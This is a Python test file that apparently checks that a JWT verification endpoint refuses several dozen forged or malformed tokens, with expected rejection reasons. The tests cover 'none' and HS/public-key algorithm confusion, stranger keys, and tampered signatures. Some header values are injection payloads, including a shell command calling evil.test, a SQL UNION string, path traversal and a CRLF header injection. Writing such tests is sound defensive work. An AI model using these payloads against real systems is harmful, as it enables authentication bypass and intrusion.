"""Tokens whose signature, key or algorithm is not what it should be; each is refused."""

import hmac
import json
from typing import Any

import pytest
from joserfc import jwe, jws
from joserfc.jwk import RSAKey

from tests.attacks import Attack, meet, table
from tests.callers import ISSUER, JKU, KID, Caller, ec, key_set, public, rsa, segment, sign
from tests.door import Door

PEM = ec().as_pem(private=False)
STRANGER = ec("P-384", "stranger")


def unsigned(alg: Any) -> Any:
    """A token that says it needs no signature, and has none."""
    return lambda c: f"{segment(c.header(alg=alg))}.{segment(c.claims())}."


def symmetric(alg: str, secret: bytes) -> Any:
    """A token signed with a secret that everybody knows: the public key."""

    def make(caller: Caller) -> str:
        signed = f"{segment(caller.header(alg=alg))}.{segment(caller.claims())}"
        digest = f"sha{alg[2:]}"
        return f"{signed}.{segment(hmac.digest(secret, signed.encode(), digest))}"

    return make


def headed(**header: Any) -> Any:
    """A well-signed token with another header."""
    return lambda c: c.token(header)


def forged(**header: Any) -> Any:
    """A token signed by a stranger, with another header."""
    return lambda c: sign(c.header(**header), c.claims(), STRANGER)


def resigned(change: Any) -> Any:
    """A good token whose signature is changed."""

    def make(caller: Caller) -> str:
        head, payload, signature = caller.token().split(".")
        return f"{head}.{payload}.{change(signature)}"

    return make


def mixed(caller: Caller) -> str:
    """The signature of one token under the claims of another."""
    one, other = caller.token(), caller.token()
    return ".".join((*one.split(".")[:2], other.split(".")[2]))


def encrypted(caller: Caller) -> str:
    """A JWE: five parts."""
    header = {"alg": "RSA-OAEP", "enc": "A128GCM"}
    return jwe.encrypt_compact(
        header, json.dumps(caller.claims()), rsa(), algorithms=[*header.values()]
    )


def encrypted_shape(caller: Caller) -> str:
    """A JWS that calls itself encrypted."""
    return caller.token({"enc": "A128GCM", "alg": "ES384"})


def nested(caller: Caller) -> str:
    """A token within a token."""
    return sign(caller.header(cty="JWT"), caller.token())


def weak(caller: Caller) -> str:
    """RSA of 1024 bits."""
    with pytest.warns(match="2048"):
        key = RSAKey.generate_key(1024)
    return sign(caller.header(alg="RS384", kid="weak"), caller.claims(), key, "RS384")


def access_token(caller: Caller) -> str:
    """EPIC-03: the FHIR access token, a JWT as well, in place of the client's."""
    header = {"alg": "RS256", "typ": "JWT", "kid": "fhir-server-key"}
    return sign(
        header, caller.claims(iss=f"{ISSUER}/oauth2", aud="fhir-server-audience"), rsa(), "RS256"
    )


def general_json(caller: Caller) -> str:
    """The JSON serialization, which has room for several signatures."""
    member: Any = {"protected": caller.header()}
    return json.dumps(jws.serialize_json(member, json.dumps(caller.claims()), ec(), ["ES384"]))


ATTACKS = [
    *(
        Attack(f"alg {alg!r}", unsigned(alg), "malformed")
        for alg in ("none", "None", "NONE", "nOnE")
    ),
    *(
        Attack(f"alg {alg!r}, signed", headed(alg=alg), "algorithm")
        for alg in ("none", "nonE", "es384", "ES384 ", "ES256K", "EdDSA", "RSA1_5", "HS384")
    ),
    Attack("alg a number", headed(alg=384), "malformed"),
    Attack("alg a list", headed(alg=["ES384"]), "malformed"),
    Attack("alg missing", lambda c: sign({"typ": "JWT", "kid": KID}, c.claims()), "malformed"),
    Attack("HS256 with the public key in PEM", symmetric("HS256", PEM), "algorithm"),
    Attack("HS384 with the public key in PEM", symmetric("HS384", PEM), "algorithm"),
    Attack("HS256 with x of the JWK", symmetric("HS256", public(ec())["x"].encode()), "algorithm"),
    Attack("HS256 with a word", symmetric("HS256", b"secret-secret-secret"), "algorithm"),
    Attack("RS384 said of an EC signature", headed(alg="RS384"), "signature", True),
    Attack(
        "ES384 said of a P-256 key",
        lambda c: sign(c.header(kid="p256"), c.claims(), ec("P-256"), "ES256"),
        "signature",
        True,
    ),
    Attack(
        "RSA signature under an EC kid",
        lambda c: sign(c.header(alg="RS384"), c.claims(), rsa(), "RS384"),
        "signature",
        True,
    ),
    Attack("RSA of 1024 bits", weak, "unknown-key", True),
    Attack("a stranger's key", forged(), "signature", True),
    Attack("a stranger's key in jwk", forged(jwk=public(STRANGER)), "signature", True),
    Attack("a stranger's key at x5u", forged(x5u="https://evil.test/x5u"), "signature", True),
    Attack("a stranger's certificate in x5c", forged(x5c=["MIIB"]), "signature", True),
    Attack("kid unknown", headed(kid="unknown-key-of-mine"), "unknown-key", True),
    Attack("kid a path", headed(kid="../../../../dev/null"), "unknown-key", True),
    Attack("kid SQL", headed(kid="x' UNION SELECT 'secret'; --"), "unknown-key", True),
    Attack("kid a URL", headed(kid="https://evil.test/keys"), "unknown-key", True),
    Attack("kid a shell command", headed(kid="$(curl evil.test)|id"), "unknown-key", True),
    Attack("kid in other case", headed(kid=KID.upper()), "unknown-key", True),
    Attack("kid of a secret", headed(kid="oct"), "unknown-key", True),
    Attack("kid of a key for encryption", headed(kid="enc"), "unknown-key", True),
    Attack("kid of a key that shows its secret", headed(kid="leaky"), "unknown-key", True),
    Attack("kid with a line break", headed(kid="a\r\nX-Evil: yes"), "malformed"),
    Attack("kid with NUL", headed(kid=f"{KID}\x00"), "malformed"),
    Attack("kid empty", headed(kid=""), "malformed"),
    Attack("kid a number", headed(kid=1), "malformed"),
    Attack("kid an object", headed(kid={"$ne": None}), "malformed"),
    Attack("kid missing", lambda c: sign(c.header(kid=None), c.claims()), "malformed"),
    Attack("crit", headed(crit=["exp"]), "malformed"),
    Attack("crit empty", headed(crit=[]), "malformed"),
    Attack(
        "crit with a name of its own",
        headed(crit=["http://evil"], **{"http://evil": 1}),
        "malformed",
    ),
    Attack("b64 false", headed(b64=False, crit=["b64"]), "malformed"),
    Attack("b64 false without crit", headed(b64=False), "malformed"),
    Attack("zip", headed(zip="DEF"), "malformed"),
    Attack("typ of an access token", headed(typ="at+jwt"), "malformed"),
    Attack("typ missing", lambda c: sign(c.header(typ=None), c.claims()), "malformed"),
    Attack("typ a list", headed(typ=["JWT"]), "malformed"),
    Attack("signature stripped", resigned(lambda _: ""), "malformed"),
    Attack("signature cut", resigned(lambda s: s[:-8]), "signature", True),
    Attack("signature of zeros", resigned(lambda _: segment(bytes(96))), "signature", True),
    Attack("signature too long", resigned(lambda s: s + "AAAA"), "signature", True),
    Attack(
        "r and s one", resigned(lambda _: segment(bytes([*[0] * 47, 1] * 2))), "signature", True
    ),
    Attack("r and s the order's", resigned(lambda _: segment(b"\xff" * 96)), "signature", True),
    Attack("signature of another token", mixed, "signature", True),
    Attack("signature not of this length", resigned(lambda s: s[:1]), "signature", True),
    Attack("a JWE", encrypted, "malformed"),
    Attack("a JWS that says enc", encrypted_shape, "malformed"),
    Attack("a token within a token", nested, "malformed"),
    Attack("JWS in JSON", general_json, "malformed"),
    Attack("the FHIR access token", access_token, "untrusted"),
]


@table(ATTACKS)
async def test_it_is_refused(
    door: Door, caller: Caller, attack: Attack, caplog: pytest.LogCaptureFixture
) -> None:
    """401 with its reason; only the listed key set is read, and nothing of the token comes back."""
    member = public(ec("P-256"), "p256", alg="ES384")
    others = [
        public(ec("P-384", "enc"), "enc", use="enc"),
        {"kty": "oct", "kid": "oct", "k": "c2VjcmV0LXNlY3JldC1zZWNyZXQ", "use": "sig"},
        {**ec("P-384", "leaky").as_dict(private=True), "kid": "leaky"},
        public(ec("P-256"), "p256"),
        member,
    ]
    door.keys.sets[JKU] = key_set(public(ec()), *others)
    await meet(door, attack, caller, caplog)
